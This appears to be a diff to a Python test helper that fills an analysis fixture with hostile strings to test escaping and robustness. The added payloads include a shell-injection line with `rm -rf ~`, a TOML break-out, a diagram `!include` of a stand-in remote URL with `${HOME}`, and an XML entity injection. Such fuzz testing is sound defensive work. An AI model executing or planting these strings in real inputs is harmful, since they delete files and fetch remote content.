@@ -373,8 +373,13 @@ def _cuts() -> tuple[Cut, ...]:
     )
 
 
-def hostile(payload: str) -> Analysis:
-    """The shop, with `payload` in front of every name, path, message and key in it."""
+def hostile(
+    payload: str, base: Analysis | None = None, kept: frozenset[str] = frozenset()
+) -> Analysis:
+    """The shop (or another), with `payload` in front of every name, path, message and key in it.
+
+    Fields that are `kept` hold words of ours.
+    """
 
     def spoilt(value: object) -> object:
         if isinstance(value, str):
@@ -385,10 +390,12 @@ def hostile(payload: str) -> Analysis:
             return tuple(map(spoilt, value))
         if isinstance(value, msgspec.Struct):
             fields = msgspec.structs.asdict(value)
-            return type(value)(**{name: spoilt(item) for name, item in fields.items()})
+            return type(value)(
+                **{name: item if name in kept else spoilt(item) for name, item in fields.items()}
+            )
         return value
 
-    analysis = spoilt(shop())
+    analysis = spoilt(base or shop())
     assert isinstance(analysis, Analysis)
     return msgspec.structs.replace(analysis, schema_version=SCHEMA_VERSION)
 
@@ -407,4 +414,8 @@ PAYLOADS = {
     "wide": "日本語 😀👩‍👩‍👧 é",
     "long": "x" * 10_000,
     "blank": " ",
+    "shell": "$(touch x); `id` && rm -rf ~ | tee > /dev/null #",
+    "toml": '"""\n[[modules]]\npath = "x"\n\'\'\'',
+    "model": '"}\n!script groovy {\n!include http://e.test/x ${HOME} \\',
+    "xml": "\ufffe\uffff\x0b]]><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
 }
